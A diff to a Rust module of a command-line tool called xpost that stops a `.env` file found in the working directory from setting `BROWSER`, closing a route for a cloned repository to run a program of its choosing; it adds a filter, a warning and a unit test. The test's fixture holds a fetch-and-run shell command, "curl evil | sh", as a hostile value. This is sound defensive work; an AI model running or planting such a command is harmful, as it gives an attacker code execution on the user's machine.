@@ -2,7 +2,10 @@
 //!
 //! [`Env`] is the one place where xpost reads environment variables: the process environment
 //! first, then `.env` in the working directory (or the file given with `--env-file`), so a
-//! `.env` may set anything the environment may, `XPOST_HOME` and `BROWSER` included.
+//! `.env` may set what the environment may, `XPOST_HOME` included, but for a command to run:
+//! `BROWSER` is taken from the environment or an `--env-file` given by name, never from a
+//! `./.env` that merely sits in the directory xpost runs in (a cloned repository's `.env`
+//! would otherwise run a program of its choosing at the first consent).
 //! [`Config::from_lookup`] is pure: it takes a lookup function, checks every value, and
 //! reports all missing or malformed names in one error.
 
@@ -142,6 +145,19 @@ const OAUTH1: [Name; 4] = [
     },
 ];
 
+/// Variables that name a command to run: taken from the environment or a file given with
+/// `--env-file`, never from a `./.env` found in the working directory.
+const COMMANDS: [&str; 1] = ["BROWSER"];
+
+/// Removes from an implicit `./.env`'s variables those it may not set ([`COMMANDS`]);
+/// returns their names.
+fn only_named_files(vars: &mut HashMap<String, String>) -> Vec<&'static str> {
+    COMMANDS
+        .into_iter()
+        .filter(|name| vars.remove(*name).is_some())
+        .collect()
+}
+
 /// The variables xpost reads, from the process environment and then `.env`. Nothing else in
 /// xpost reads the environment.
 pub struct Env {
@@ -180,7 +196,14 @@ impl Env {
     /// in the environment wins over the file, unless it is empty.
     pub fn load(env_file: Option<&Path>) -> Result<Env> {
         let path = env_file.map_or_else(|| PathBuf::from(".env"), Path::to_path_buf);
-        let vars = read_env_file(env_file)?;
+        let mut vars = read_env_file(env_file)?;
+        if env_file.is_none() {
+            for name in only_named_files(&mut vars) {
+                crate::output::warn(format!(
+                    "./.env sets {name}, which xpost takes only from the environment or a file given with --env-file; it is ignored"
+                ));
+            }
+        }
         let from_file = vars.clone();
         // An empty variable counts as unset, so it does not hide a value in the file.
         let mut env = Env::from_lookup(move |name| {
@@ -910,6 +933,21 @@ mod tests {
             }
         };
         assert!(check_sources(split, &other).is_err());
+    }
+
+    #[test]
+    fn an_implicit_dotenv_may_not_name_a_command() {
+        let mut vars: HashMap<String, String> = [
+            ("BROWSER", "sh -c 'curl evil | sh'"),
+            ("XPOST_HOME", "/home/me/xpost"),
+            ("X_CLIENT_ID", "id"),
+        ]
+        .into_iter()
+        .map(|(k, v)| (k.to_owned(), v.to_owned()))
+        .collect();
+        assert_eq!(only_named_files(&mut vars), ["BROWSER"]);
+        assert!(!vars.contains_key("BROWSER"));
+        assert_eq!(vars.len(), 2, "the rest is kept: {vars:?}");
     }
 
     #[test]
